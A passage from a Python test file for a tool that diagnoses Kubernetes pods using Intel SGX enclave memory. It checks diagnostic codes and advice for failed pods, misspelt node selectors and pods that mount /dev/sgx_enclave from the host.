    assert "DJ107" not in codes(explain(pod("4Ki", phase="Failed", on="a"), around(node("a"))))


def test_a_program_with_epc_that_ends_is_told_with_how_much_it_asked_for() -> None:
    status: Json = [{"name": "app", "state": {"terminated": {"exitCode": 3, "reason": "Error"}}}]
    told = explain(pod("16Mi", phase="Failed", on="a", status={"containerStatuses": status}), around(node("a")))
    assert "compare its enclave's size with the 16Mi of EPC that it asks for" in told.next_step


def test_a_misspelt_label_in_a_selector_comes_before_what_keeps_the_pod_away_and_one_on_the_pod_does_not() -> None:
    there = around(node("a"))
    told = explain(with_spec(pod("1Mi"), {"nodeSelector": {"sgx.intel.com/capabel": "true"}}), there)
    assert codes(told) == ["DJ151", "DJ133"]
    assert told.next_step.startswith("did you mean sgx.intel.com/capable? that needs a new pod: kubectl delete pod -n shop app")
    large = pod("16Gi")
    metadata = large["metadata"]
    assert isinstance(metadata, dict)
    noted = large | {"metadata": metadata | {"annotations": {"sgx.intel.com/quote-providers": "aesmd"}}}
    assert codes(explain(noted, there)) == ["DJ132", "DJ151"]


@pytest.mark.parametrize(("phase", "code"), [("Running", 0), ("Failed", 1)])
def test_a_pod_that_mounts_the_device_from_the_host_is_told_and_no_ordinary_pod(phase: str, code: int) -> None:
    volume: JsonObject = {"name": "dev", "hostPath": {"path": "/dev/sgx_enclave"}}
    state: JsonObject = {"terminated": {"exitCode": code, "reason": "Error"}} if code else {"running": {}}
    there = with_spec(
        pod(phase=phase, on="a", status={"containerStatuses": [{"name": "app", "state": state}]}), {"volumes": [volume]}
    )
    told = explain(there, around(node("a")))
    assert (codes(told), told.well) == (["DJ114"], not code)
    assert "mounts /dev/sgx_enclave from the host, and asks for nothing of SGX" in told.verdict
    assert ("app ended with exit code 1" in told.verdict) is bool(code)
    assert "ask for sgx.intel.com/epc" in told.next_step
